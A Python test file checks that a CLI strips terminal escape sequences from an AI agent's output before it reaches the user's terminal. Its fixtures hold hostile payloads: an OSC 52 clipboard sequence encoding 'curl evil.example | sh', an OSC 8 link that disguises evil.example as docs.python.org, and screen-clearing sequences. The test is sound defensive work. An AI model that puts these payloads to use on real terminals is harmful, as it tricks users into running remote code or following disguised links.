"""The agent's words reach a person's terminal through `codexweb code` and `codexweb show`: a
command's output, its messages, the summary. Escape sequences in them must not act on that
terminal (OSC 52 sets the clipboard — a command to paste later —, OSC 8 disguises a link, CSI
clears the screen or moves the cursor over a line to hide it): the CLI prints the text without
them, as the page does. `codexweb diff` into a pipe stays byte-exact for `git apply`.

The CLI runs as a subprocess against the real app in daphne; the attempt's progress goes
through the worker's own code path (services + events.publish), as in tests/api/test_cli_live.py.
"""

from __future__ import annotations

import pytest

from tasks import events, services
from tasks.models import Attempt
from tests.support.cli_runner import (  # noqa: F401 — world is a fixture
    cli,
    cli_login,
    cli_streaming,
    world,
)
from tests.support.live_app import live_app  # noqa: F401

pytestmark = pytest.mark.timeout(180)

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
LINK = "\x1b]8;;https://evil.example/\x1b\\docs.python.org\x1b]8;;\x1b\\"
HIDE = "\x1b[2K\x1b[1A\x1b[2J\x1b[H"
HOSTILE = f"3 passed{CLIPBOARD}{LINK}{HIDE}\x9b31m\x07\x08"
PATCH = ("diff --git a/app.py b/app.py\n--- a/app.py\n+++ b/app.py\n@@ -1 +1 @@\n-x = 1\n"
         f"+x = '{CLIPBOARD}'\n")


def test_the_agent_s_escape_sequences_never_reach_the_terminal(live_app, world):  # noqa: F811
    cli_login(live_app, world)
    with cli_streaming(world, "code", "Make x two", "--repo", "acme/webapp") as (process, task):
        attempt = Attempt.objects.get(task=task)
        services.attempt_claim(attempt_id=attempt.pk)
        events.publish(attempt.pk, "message", {"text": f"Reading the docs {LINK}"})
        events.publish(attempt.pk, "command", {"call_id": "1", "chunk_id": "c1",
                                               "command": f"pytest {HIDE}", "cwd": "/w"})
        events.publish(attempt.pk, "output", {"chunk_id": "c1", "stream": "stdout",
                                              "text": HOSTILE + "\n", "at": 0.2})
        services.attempt_finish(attempt_id=attempt.pk, status="succeeded", patch=PATCH,
                                summary=f"Changed x.{CLIPBOARD}")
        out, err = process.communicate(timeout=60)
    shown = cli(world, "show", str(task.pk))
    piped = cli(world, "diff", str(task.pk))

    assert process.returncode == 0, err
    for printed in (out, err, shown.stdout):
        assert "\x1b" not in printed and "\x9b" not in printed and "\x07" not in printed
    assert "3 passed" in out and "Reading the docs docs.python.org" in out
    assert "Changed x." in shown.stdout
    assert piped.stdout == PATCH  # a pipe gets the patch as it is
